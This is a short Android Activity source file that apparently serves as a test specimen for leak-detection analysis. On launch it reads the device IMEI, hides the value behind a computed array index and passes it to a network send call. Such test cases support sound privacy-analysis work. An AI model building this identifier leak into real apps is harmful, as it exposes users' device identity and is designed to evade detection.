package com.example.specimen;

import android.app.Activity;
import android.os.Bundle;

public class Main extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        setContentView(R.layout.main);
        String[] parts = {"a", "b", "c", "d"};
        int at = 1;
        parts[at * 2 + 1] = Imei.read(this);
        Net.send(parts[3]);
    }
}
